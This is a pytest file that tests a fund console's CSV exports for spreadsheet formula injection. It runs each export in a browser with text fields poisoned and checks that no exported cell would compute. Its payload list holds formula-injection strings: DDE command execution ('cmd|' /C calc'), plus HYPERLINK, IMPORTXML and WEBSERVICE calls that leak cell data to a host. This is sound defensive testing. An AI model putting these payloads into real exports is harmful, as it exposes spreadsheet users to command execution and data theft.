"""Formulas in exported CSV: no cell of any export is one that a spreadsheet would compute.

The exports run in a real browser, with hostile text in every place that a fund's data can fill.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from sanya.console.widgets import load_widget
from tests.attacks.case_counts import count_case
from tests.console.conftest import browser, host, opened
from tests.console.test_widgets import AWAIT_FILE, CALLS
from tests.console.widget_host import WidgetHost

__all__ = ["browser", "host", "opened"]  # fixtures
ROOT = Path(__file__).parents[2]
# The first characters by which spreadsheets take a cell for a formula; some take the full-width forms as well.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"x\")", "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "=1\n=2", "=1,=2", "\"=1", "x\",=1+1,\"", "x\"\r\n=1+1", "x\n=1+1", "x\r=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1)", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", " =1+1", "\u00a0=1+1", "\x00=1+1",
    "'=1+1", "''=1", "=IMPORTXML(\"http://127.0.0.1:9\",\"//a\")", "=WEBSERVICE(\"http://127.0.0.1:9\")",
)  # fmt: skip
# Spreadsheets and their import steps drop these in front of a formula.
DROPPED = " \u00a0\ufeff\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068\x00"


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet may compute the cell. A plain number is not a formula."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(DROPPED).startswith(STARTS)
    return False


def _poison(value: Any, payloads: Iterator[str]) -> Any:
    """Replace every text of an answer, and every name of a series, by the next payload."""
    if isinstance(value, dict):
        return {
            next(payloads) if isinstance(item, list) and item and isinstance(item[0], float) else key: _poison(
                item, payloads
            )
            for key, item in value.items()
        }
    if isinstance(value, list):
        return [_poison(item, payloads) for item in value]
    return next(payloads) if isinstance(value, str) else value


async def _export(host: WidgetHost, name: str, answer: dict[str, Any]) -> list[list[str]]:
    arguments = CALLS[name][1]
    frame = await host.as_app(load_widget(name).html, arguments, answer)
    await frame.evaluate(AWAIT_FILE)
    await frame.get_by_role("button", name="Save CSV").click()
    text: str = await frame.evaluate("() => window.saved.then((blob) => blob.text())")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("name", ["rmf-performance-chart", "rmf-fund-comparison"])
async def test_no_exported_cell_is_a_formula(host: WidgetHost, name: str) -> None:
    tool, arguments = CALLS[name]
    honest = await host.call_tool(tool, **arguments)
    width = max(map(len, await _export(host, name, honest)))
    payloads = cycle(PAYLOADS)
    poisoned = {part: _poison(honest[part], payloads) for part in ("structuredContent", "_meta")}
    rows = await _export(host, name, honest | poisoned)
    cells = {cell for row in rows for cell in row}
    assert {payload for payload in PAYLOADS if not any(payload in cell for cell in cells)} == set()
    assert {cell for cell in cells if is_formula(cell)} == set()
    assert max(map(len, rows)) == width
    count_case(len(PAYLOADS))


def test_these_are_all_exports_of_csv() -> None:
    """Every page writes CSV by one function, which these exports attack."""
    folder = ROOT / "web/src"
    sources = {str(path.relative_to(folder)): path.read_text("utf-8") for path in folder.rglob("*.ts*")}
    assert {name for name, text in sources.items() if "saveCsv(" in text} == {
        "save.ts",
        "parts/saves.tsx",
        "console/parts/exports.tsx",
    }
    assert {name for name, text in sources.items() if "text/csv" in text} == {"save.ts"}
    marks = ("csv.writer", "DictWriter", "text/csv")
    writers = [path for path in (ROOT / "src").rglob("*.py") if any(mark in path.read_text("utf-8") for mark in marks)]
    assert writers == []
